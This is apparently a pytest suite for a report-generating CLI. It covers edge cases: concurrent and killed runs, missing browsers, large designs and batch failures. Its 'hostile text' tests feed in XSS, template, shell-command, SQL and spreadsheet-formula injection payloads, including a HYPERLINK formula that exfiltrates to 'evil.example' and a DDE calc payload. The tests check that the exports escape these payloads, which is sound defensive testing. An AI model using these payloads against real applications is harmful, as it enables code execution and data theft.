"""Report runs at their edges: concurrent, interrupted and killed runs, bad output folders,
missing or broken browsers, hostile text, a 10,000-server design and batches with failures.

Nothing may be lost (a finished report is never replaced unless asked) and nothing may be left
(no staging folder, reservation or kernel working folder survives a run, or the run after a
killed one).
"""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
import types
from pathlib import Path
from urllib.parse import unquote

import pytest
from conftest import EXAMPLE, ROOT, example_data, profile_only
from pypdf import PdfReader
from typer.testing import CliRunner

from bench.common import servers_scenario
from srmkit import interrupts
from srmkit import report as report_module
from srmkit.browser import offline_page
from srmkit.cli import app
from srmkit.execution import ReportError
from srmkit.folders import STAGING_PREFIX, WORK_PREFIX
from srmkit.report import Report, render

pytestmark = [pytest.mark.notebook, pytest.mark.timeout(300)]
SRMKIT = str(Path(sys.executable).with_name("srmkit"))


def start(*args: str, env: dict[str, str] | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [SRMKIT, *args],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, **(env or {})},
    )


def leftovers(out: Path) -> list[Path]:
    """Hidden files and folders under ``out`` (staging folders, reservation marks)."""
    return list(out.rglob(".*")) if out.exists() else []


def work_dirs(pid: int) -> list[Path]:
    """The kernel and browser working folders of run ``pid`` in the temp directory."""
    return list(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*-{pid}-*"))


def wait_for_staging(out: Path, timeout_s: float = 60) -> Path:
    """Wait until a run has begun writing a report; return its staging folder."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        found = list(out.glob(f"*/{STAGING_PREFIX}*"))
        if found:
            return found[0]
        time.sleep(0.05)
    raise AssertionError("the run never began writing")


@pytest.mark.slow
def test_concurrent_runs_on_one_scenario_each_land(tmp_path: Path) -> None:
    """Two runs at once on the same scenario and folder: both succeed, neither replaces the
    other, nothing is left over."""
    out = tmp_path / "reports"
    runs = [
        start("report", str(EXAMPLE), "--out", str(out), "--to", "html", "--only", "design")
        for _ in range(2)
    ]
    results = [r.communicate(timeout=240) for r in runs]
    assert [r.returncode for r in runs] == [0, 0], results
    folders = sorted(p for p in (out / "northwind-traders").iterdir())
    assert len(folders) == 2
    assert folders[0].name == "1.0"
    assert folders[1].name.startswith("1.0-")
    for folder in folders:
        assert (folder / "design_document.html").stat().st_size > 100_000
        assert (folder / "findings.json").exists()
    assert leftovers(out) == []


@pytest.mark.slow
@pytest.mark.parametrize("delay_s", [0.0, 0.1, 0.4])
def test_sigterm_removes_the_unfinished_report(tmp_path: Path, delay_s: float) -> None:
    """SIGTERM ends a run as Ctrl-C does, wherever it lands (while exports are written, while a
    notebook runs, in a later document): exit 130, no traceback (not even of the abandoned cell's
    task), and its staging folder, reservation and kernel working folder are gone."""
    out = tmp_path / "reports"
    run = start("report", str(EXAMPLE), "--out", str(out), "--to", "html")
    wait_for_staging(out)
    time.sleep(delay_s)
    run.send_signal(signal.SIGTERM)
    _, err = run.communicate(timeout=60)
    assert run.returncode == 130
    assert "interrupted" in err
    assert "Traceback" not in err
    assert not out.exists() or not any(out.rglob("*"))
    assert work_dirs(run.pid) == []


def test_an_interrupt_inside_the_import_system_comes_again_later(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A signal that lands in the import system's bookkeeping does not raise there (it could
    leave the import lock held and hang the run, 4 runs in 30 before): it is sent again a moment
    later; anywhere else it raises KeyboardInterrupt at once. Either way the run is marked."""
    scheduled: list[tuple[float, object, tuple[int, int]]] = []

    class Timer:
        def __init__(self, delay_s: float, fn: object, args: tuple[int, int]) -> None:
            self.call = (delay_s, fn, args)

        def start(self) -> None:
            scheduled.append(self.call)

    monkeypatch.setattr(interrupts.threading, "Timer", Timer)
    in_import = types.SimpleNamespace(
        f_code=types.SimpleNamespace(co_filename="<frozen importlib._bootstrap>")
    )
    try:
        interrupts.interrupt(signal.SIGTERM, in_import)  # type: ignore[arg-type]
        assert scheduled == [(interrupts.RESIGNAL_S, os.kill, (os.getpid(), signal.SIGTERM))]
        assert interrupts.INTERRUPTED.is_set()
        with pytest.raises(KeyboardInterrupt):
            interrupts.interrupt(signal.SIGTERM, sys._getframe())
        assert len(scheduled) == 1
    finally:
        interrupts.INTERRUPTED.clear()


@pytest.mark.slow
def test_the_run_after_a_sigkill_removes_its_debris(tmp_path: Path) -> None:
    """A run killed outright leaves its staging folder, reservation and working folder; the
    next run removes them and lands in the name the killed run had reserved."""
    out = tmp_path / "reports"
    killed = start("report", str(EXAMPLE), "--out", str(out), "--to", "html", "--only", "design")
    staging = wait_for_staging(out)
    killed.kill()
    killed.wait(timeout=30)
    assert staging.exists()
    assert (out / "northwind-traders" / "1.0").exists()  # reserved, empty
    assert work_dirs(killed.pid)

    after = start("report", str(EXAMPLE), "--out", str(out), "--to", "html", "--only", "design")
    _, err = after.communicate(timeout=240)
    assert after.returncode == 0, err
    assert leftovers(out) == []
    assert work_dirs(killed.pid) == []
    assert [p.name for p in (out / "northwind-traders").iterdir()] == ["1.0"]
    assert (out / "northwind-traders" / "1.0" / "design_document.html").exists()


def test_an_output_folder_that_cannot_be_made_exits_2(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(blocker / "x")])
    assert r.exit_code == 2
    assert "cannot create the output folder" in r.stderr
    assert "nothing was rendered" in r.stderr
    assert blocker.read_text(encoding="utf-8") == "not a folder"


def test_pdf_without_a_browser_exits_2_before_rendering(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SRMKIT_CHROMIUM", str(tmp_path / "no-such-browser"))
    out = tmp_path / "reports"
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out), "--to", "pdf"])
    assert r.exit_code == 2
    assert "no Chrome, Chromium or Edge found for printing the PDF documents" in r.stderr
    assert not out.exists()
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out), "--to", "html,docx"])
    assert r.exit_code == 2
    assert "for the figures of the Word documents" in r.stderr
    assert "PDF" not in r.stderr
    assert not out.exists()


def test_first_run_without_a_browser_writes_html_and_says_what_it_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No --to and no browser: the HTML is written, one warning names what was skipped and how
    to get a browser, exit 0."""
    monkeypatch.setenv("SRMKIT_CHROMIUM", str(tmp_path / "no-such-browser"))
    out = tmp_path / "reports"
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out), "--only", "design"])
    assert r.exit_code == 0, r.stderr
    assert r.stderr.count("warning:") == 1
    assert "writing HTML only (PDF and Word need one)" in r.stderr
    assert "apt-get install chromium" in r.stderr
    folder = out / "northwind-traders" / "1.0"
    assert (folder / "design_document.html").exists()
    assert not list(folder.glob("*.pdf"))
    assert not list(folder.glob("*.docx"))


def test_a_browser_is_found_where_windows_and_macos_install_it(tmp_path: Path) -> None:
    """Chrome or Edge is not on PATH on Windows and macOS: their standard places are searched."""
    from srmkit.browser import find_browser

    empty = tmp_path / "empty-path"
    empty.mkdir()
    edge = tmp_path / "PF86" / "Microsoft\\Edge\\Application\\msedge.exe"
    edge.parent.mkdir(parents=True)
    edge.write_text("", encoding="utf-8")
    edge.chmod(0o755)
    env = {"PATH": str(empty), "PROGRAMFILES(X86)": str(tmp_path / "PF86")}
    assert find_browser("win32", env) == edge
    assert find_browser("linux", env) is None
    assert find_browser("win32", {"PATH": str(empty)}) is None


def test_a_browser_that_fails_to_start_fails_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A browser that exits at start: exit 1 with a short reason, and nothing left behind."""
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 3\n", encoding="utf-8")
    broken.chmod(0o755)
    monkeypatch.setenv("SRMKIT_CHROMIUM", str(broken))
    out = tmp_path / "reports"
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out), "--only", "design"])
    assert r.exit_code == 1
    assert "did not start (it exited with code 3)" in r.stderr
    assert len(r.stderr) < 600
    assert "nothing rendered" in r.stdout
    assert not out.exists()


# --- hostile text -----------------------------------------------------------------------------

PAYLOADS = {
    "customer": "<script>alert('c')</script> Evil & Co",
    "project": '"><img src=x onerror=alert(1)> {{ 7*7 }} ${7*7}',
    "author": "$(touch pwned) `id` '; DROP TABLE x; --",
    "notes": '=HYPERLINK("http://evil.example/?d="&A2,"x")\n<iframe src=javascript:alert(2)>'
    "\n\\input{/etc/passwd} [link](javascript:alert(3)) {% raw %}",
}


def hostile_params(tmp_path: Path) -> Path:
    """The example with a payload in every free-text field and an apostrophe in a site name."""
    import yaml

    data = example_data()  # in a temporary folder, without EXMBX01's log: sized by its profile
    data["document"].update(PAYLOADS)
    data["accept"] = [{"id": "RLP-SIZE", "reason": "<b>bold</b> =cmd|' /C calc'!A0"}]
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    path = tmp_path / "hostile.yaml"
    path.write_text(text.replace("Utrecht", "Utrecht O'Hare"), encoding="utf-8")
    return path


@pytest.mark.browser
@pytest.mark.usefixtures("need_browser")
def test_hostile_text_is_shown_as_text_everywhere(tmp_path: Path) -> None:
    """Payloads in every free-text field: escaped in the HTML (no script runs, no dialog opens,
    nothing is fetched), printed literally in the PDF, never evaluated by a spreadsheet."""
    path = hostile_params(tmp_path)
    result = render([path], tmp_path / "reports", ("html", "pdf"))
    assert result.failures == []
    [rep] = result.reports
    folder = rep.folder
    assert folder.parent.parent == tmp_path / "reports"  # the customer name made no path
    html = (folder / "design_document.html").read_text(encoding="utf-8")
    assert "<script>alert('c')" not in html
    assert "&lt;script&gt;alert(" in html
    assert "<img src=x" not in html
    assert "<iframe" not in html
    assert "{{ 7*7 }}" in html  # not evaluated by a template
    assert not (ROOT / "pwned").exists()
    assert not (tmp_path / "pwned").exists()

    with offline_page() as (page, refused):
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto((folder / "design_document.html").as_uri(), wait_until="load")
        page.wait_for_timeout(300)
        assert dialogs == []
        assert refused == []
        assert "Evil & Co" in page.inner_text("body")

    text = "\n".join(p.extract_text() for p in PdfReader(folder / "design_document.pdf").pages)
    flat = " ".join(text.split())
    assert "<script>alert('c')</script> Evil & Co" in flat
    assert "{{ 7*7 }}" in flat

    for row in csv.reader((folder / "plan.csv").open(encoding="utf-8")):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    from openpyxl import load_workbook

    book = load_workbook(folder / "plan.xlsx")
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_exports_never_write_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even text that starts like a formula (not possible in today's names) is written as text."""
    from openpyxl import load_workbook

    from srmkit import exports, output
    from srmkit.design import Design
    from srmkit.params import load_scenario

    design = Design(load_scenario(EXAMPLE))
    rows = output.mirror_rows(design)
    evil = ['=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
    for row, text in zip(rows, evil, strict=False):
        row["server"] = text
    # The exports are written from design.frames, which are built from these rows.
    monkeypatch.setattr(output, "mirror_rows", lambda _design: rows)
    exports.write_plan_csv(design, tmp_path / "plan.csv")
    exports.write_plan_xlsx(design, tmp_path / "plan.xlsx")
    written = [r["server"] for r in csv.DictReader((tmp_path / "plan.csv").open(encoding="utf-8"))]
    assert written[: len(evil)] == ["'" + t for t in evil]
    sheet = load_workbook(tmp_path / "plan.xlsx")["mirrors"]
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(evil))]
    assert [c.value for c in cells] == evil
    assert {c.data_type for c in cells} == {"s"}


# --- large designs ----------------------------------------------------------------------------


LARGE = 3_000
"""Servers of the large design the suite renders: every table longer than a page is summarised
from 41 rows on, so 3,000 shows what 10,000 would, at a third of the time (the 10,000-server
report, every optional field set, is measured by ``make bench``, group scale, against its
10-minute budget; the 10,000-server check is in test_corpus)."""


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.usefixtures("need_browser")
@pytest.mark.timeout(600)
def test_large_design_renders(tmp_path: Path) -> None:
    """A design of 3,000 servers renders: long tables are summarised in the document and
    complete in plan.xlsx and plan.csv (the review of a design with thousands of findings is in
    test_large_documents)."""
    path = tmp_path / "large.yaml"
    path.write_text(servers_scenario(LARGE), encoding="utf-8")
    result = render([path], tmp_path / "reports", ("html", "pdf"), only=["design"])
    assert result.failures == []
    folder = result.reports[0].folder
    html = (folder / "design_document.html").read_text(encoding="utf-8")
    assert f"The first 40 of {LARGE:,} rows are shown" in html
    assert "MBX00039" in html
    assert "MBX02998" not in html  # (MBX02999 ends a range in the recommendations)
    # 41 pages: a table that listed every server would add hundreds.
    assert len(PdfReader(folder / "design_document.pdf").pages) < 44
    from openpyxl import load_workbook

    book = load_workbook(folder / "plan.xlsx", read_only=True)
    assert sum(1 for _ in book["servers"].iter_rows()) == 1 + LARGE  # header, the servers
    with (folder / "plan.csv").open(encoding="utf-8") as f:
        assert sum(1 for _ in f) == 1 + 5 * LARGE + 2  # header, 5 mirrors a server, 2 Hub LUNs


# --- batches ----------------------------------------------------------------------------------


def test_batch_with_a_failing_notebook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stub_document: str
) -> None:
    """Two good files and one whose notebook fails: the good ones land, the failed one leaves
    nothing, exit 1 with the reason; the index lists the two that landed."""
    good = [EXAMPLE, ROOT / "params" / "async-long-distance.yaml"]
    bad = tmp_path / "fails.yaml"
    # In a temporary folder, without EXMBX01's Performance Monitor log: sized by its profile.
    example = profile_only(EXAMPLE.read_text(encoding="utf-8"))
    bad.write_text(example.replace("Northwind Traders", "Failing Inc"), "utf-8")
    real = report_module.execute

    def execute(spec, params, *args, **kwargs):  # type: ignore[no-untyped-def]
        if params.name == "fails.yaml":
            raise ReportError(f"the notebook {spec.notebook} failed in cell 7: ValueError: boom")
        return real(spec, params, *args, **kwargs)

    monkeypatch.setattr(report_module, "execute", execute)
    out = tmp_path / "reports"
    r = CliRunner().invoke(
        app,
        [
            *("report", str(good[0]), str(bad), str(good[1]), "--out", str(out)),
            *("--to", "html", "--only", stub_document),
        ],
    )
    assert r.exit_code == 1
    assert f"failed: {bad}: the notebook stub.ipynb failed in cell 7" in r.stderr
    assert "2 files rendered" in r.stdout
    assert "1 failed" in r.stdout
    assert sorted(p.name for p in out.iterdir()) == [
        "fabrikam-logistics",
        "index.html",
        "northwind-traders",
    ]
    assert leftovers(out) == []


def test_batch_with_an_invalid_file_renders_nothing(tmp_path: Path) -> None:
    """Two good files and one invalid: every problem is listed, exit 2, nothing is written."""
    bad = tmp_path / "bad.yaml"
    # In a temporary folder, without EXMBX01's Performance Monitor log: sized by its profile.
    example = profile_only(EXAMPLE.read_text(encoding="utf-8"))
    bad.write_text(example.replace("flare: 29", "flare: 999"), "utf-8")
    out = tmp_path / "reports"
    r = CliRunner().invoke(app, ["report", str(EXAMPLE), str(bad), str(EXAMPLE), "--out", str(out)])
    assert r.exit_code == 2
    assert r.stderr.count("arrays[") == 2  # both arrays of the bad file
    assert not out.exists()


@pytest.mark.browser
@pytest.mark.usefixtures("need_browser")
def test_index_opens_offline_and_every_link_resolves(rendered_examples: list[Report]) -> None:
    """The index of the examples' run (rendered once for the whole test run: conftest) opens
    offline and links every file of every report."""
    index = rendered_examples[0].folder.parents[1] / "index.html"
    with offline_page() as (page, refused):
        page.goto(index.as_uri(), wait_until="load")
        links = page.eval_on_selector_all("a", "els => els.map(e => e.href)")
        text = page.inner_text("body")
        assert refused == []
        # At 390 px the page does not scroll sideways (the table scrolls in its own box).
        page.set_viewport_size({"width": 390, "height": 800})
        width = page.evaluate("document.documentElement.scrollWidth")
        viewport = page.evaluate("document.querySelector('meta[name=viewport]').content")
    assert "Northwind Traders" in text
    assert "Woodgrove Bank" in text
    assert "does not fit" in text
    assert re.search(r"Updated \d{1,2} [A-Z][a-z]+ 20\d\d at \d\d:\d\d UTC", text)
    # every file of each report, the documents and the files beside them (scripts included)
    files = {p.resolve() for r in rendered_examples for p in r.folder.rglob("*") if p.is_file()}
    linked = {Path(unquote(link.removeprefix("file://"))).resolve() for link in links}
    assert all(link.startswith("file://") for link in links)
    assert linked == files
    assert any(p.suffix == ".sh" for p in linked)
    assert width <= 390
    assert "width=device-width" in viewport


@pytest.mark.usefixtures("need_browser")
def test_an_abandoned_report_cancels_its_queued_prints(tmp_path: Path) -> None:
    """A report that fails or is interrupted cancels the prints still queued for the browser
    and waits for the one running, so nothing writes into its staging folder once removed."""
    from srmkit.browser import Chromium

    written = tmp_path / "late.txt"
    chromium = Chromium(tmp_path / "browser")
    try:
        running = chromium.submit(lambda page: page.wait_for_timeout(400))
        queued = chromium.submit(lambda page: written.write_text("late", encoding="utf-8"))
        deadline = time.monotonic() + 30
        while not running.running() and time.monotonic() < deadline:
            time.sleep(0.01)
        report_module.settle([running, queued])
        assert running.done()
        assert not running.cancelled()
        assert queued.cancelled()
        after = chromium.submit(lambda page: page.evaluate("1 + 1"))
        assert after.result(timeout=30) == 2  # the browser goes on serving
    finally:
        chromium.close()
    assert not written.exists()


def test_an_abandoned_cell_of_a_stopped_kernel_prints_no_traceback(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """After an interrupt, the cell task whose kernel srmkit stopped ends in DeadKernelError
    that nobody awaits; asyncio would print its traceback at exit (2 runs in 12 interrupted
    while printing did). srmkit's loop handler drops exactly that, and reports anything else."""
    import asyncio
    import logging

    from nbclient.exceptions import DeadKernelError

    from srmkit.execution import _drop_abandoned_cells

    loop = asyncio.new_event_loop()
    try:
        with caplog.at_level(logging.ERROR, logger="asyncio"):
            message = "Task exception was never retrieved"
            _drop_abandoned_cells(loop, {"message": message, "exception": DeadKernelError("x")})
            assert caplog.records == []
            _drop_abandoned_cells(loop, {"message": message, "exception": ValueError("real")})
            assert [r.getMessage() for r in caplog.records] == [message]
    finally:
        loop.close()
